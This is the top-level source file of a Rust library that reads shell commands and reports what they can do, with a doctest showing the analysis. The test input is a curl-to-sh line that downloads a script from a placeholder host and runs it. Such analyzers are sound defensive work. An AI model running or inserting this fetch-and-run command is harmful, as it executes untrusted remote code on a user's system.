//! Reads a shell command and reports, in plain terms, what it can do.
//!
//! Responsibilities: the structure of a command, the table of programs, and the findings that follow. Not here: how a
//! finding is worded, which command is asked about, and what a person may do with it.
//!
//! # Mental model
//! A command is read the way a shell reads it, down to the programs that others start: through `sudo`, `xargs`, `sh -c`,
//! loops and pipes. What each program does stands in a table (`assets/programs.toml`), with facts from its own manual. The
//! command is *read* only where every part of it was: each program, each option, each word. Whatever was not is reported as
//! not known, and clears nothing.
//!
//! Nothing is looked up: the same text gives the same report, and a link or the content of a file is never followed.
//!
//! # Worked example
//! ```
//! use hearken_shell::{Act, Place, read};
//!
//! let reading = read("curl -s https://x.example/i.sh | sh", &Place::default());
//! let acts: Vec<Act> = reading.findings.iter().map(|finding| finding.act).collect();
//! assert_eq!(acts, [Act::Download, Act::Downloaded]);
//! ```
//!
//! # Tuning by symptom
//! An ordinary command is not known: list its program or option in the table. A harmless word is taken for a path: give its
//! option or operand the kind `text` there.

mod act;
mod arguments;
mod effects;
mod languages;
mod lists;
mod place;
mod program;
mod report;
mod state;
mod syntax;
mod walk;
mod windows;
mod word;

pub use act::{Act, Rank};
pub use program::{TableError, check_table};
pub use report::{Finding, Part, Place, Reading, Touch, touches};
pub use walk::read;
